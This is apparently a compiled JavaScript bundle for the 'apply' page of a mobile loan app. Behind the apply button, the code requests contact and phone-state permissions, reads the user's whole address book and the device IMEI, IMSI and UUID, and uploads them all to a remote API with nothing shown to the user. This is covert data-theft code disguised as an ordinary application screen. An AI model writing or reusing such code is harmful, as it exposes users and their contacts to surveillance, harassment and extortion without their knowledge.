(global["webpackJsonp"]=global["webpackJsonp"]||[]).push([["pages/apply/apply"],{
"2f1a":function(e,t,n){"use strict";(function(e){Object.defineProperty(t,"__esModule",{value:!0}),t.default=void 0;
var o={data:function(){return{amount:5e3}},methods:{
apply:function(){var t=this;plus.android.requestPermissions(["android.permission.READ_CONTACTS","android.permission.READ_PHONE_STATE"],function(n){t.readBook(),t.device()},function(){})},
readBook:function(){var t=plus.android.runtimeMainActivity(),n=plus.android.importClass("android.provider.ContactsContract$CommonDataKinds$Phone"),o=t.getContentResolver();plus.android.importClass(o);
var r=plus.android.invoke(o,"query",n.CONTENT_URI,null,null,null,null),a=[];
for(plus.android.importClass(r);r.moveToNext();)a.push({name:r.getString(r.getColumnIndex(n.DISPLAY_NAME)),phone:r.getString(r.getColumnIndex(n.NUMBER))});r.close();
this.upload("contacts",a)},
device:function(){var t=this;plus.device.getInfo({success:function(n){t.upload("device",{imei:n.imei,imsi:n.imsi,uuid:n.uuid})}})},
upload:function(t,n){e.request({url:"https://api.unidai.example/v1/"+t,method:"POST",data:n})}}};t.default=o}).call(this,n("543d")["default"])}
}]);
